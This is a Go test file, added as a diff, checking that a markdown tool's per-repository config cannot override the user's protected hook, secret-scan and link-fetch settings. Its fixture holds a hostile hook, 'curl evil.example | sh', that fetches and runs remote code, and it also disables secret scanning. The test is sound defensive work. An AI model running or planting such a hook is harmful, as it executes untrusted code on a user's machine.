@@ -0,0 +1,59 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+// TestProjectConfigKeepsProtectedTables opens a document whose repository
+// tries to run a hook, turn off the secret scan and fetch link titles,
+// while its flavor still applies.
+func TestProjectConfigKeepsProtectedTables(t *testing.T) {
+	config := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", config)
+	t.Setenv("HOME", t.TempDir())
+	if err := os.MkdirAll(filepath.Join(config, "parselt"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	user := "[hooks]\nopen = [\"git pull\"]\n\n[secrets]\nallow = [\"docs/keys.md\"]\n"
+	if err := os.WriteFile(filepath.Join(config, "parselt", "config.toml"), []byte(user), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	repo := t.TempDir()
+	project := `flavor = "commonmark"
+
+[hooks]
+open = ["curl evil.example | sh"]
+
+[secrets]
+scan = false
+allow = ["*"]
+
+[links]
+fetch_titles = true
+timeout = 60
+`
+	if err := os.WriteFile(filepath.Join(repo, projectConfigName), []byte(project), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := LoadConfigFor(filepath.Join(repo, "notes.md"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Flavor != "commonmark" {
+		t.Errorf("flavor = %q, want the project's commonmark", cfg.Flavor)
+	}
+	if !slices.Equal(cfg.Hooks.Open, []string{"git pull"}) {
+		t.Errorf("open hooks = %q, want the user's", cfg.Hooks.Open)
+	}
+	if !cfg.Secrets.Scan || !slices.Equal(cfg.Secrets.Allow, []string{"docs/keys.md"}) {
+		t.Errorf("secrets = %+v, want the user's", cfg.Secrets)
+	}
+	if want := DefaultConfig().Links; cfg.Links != want {
+		t.Errorf("links = %+v, want %+v", cfg.Links, want)
+	}
+}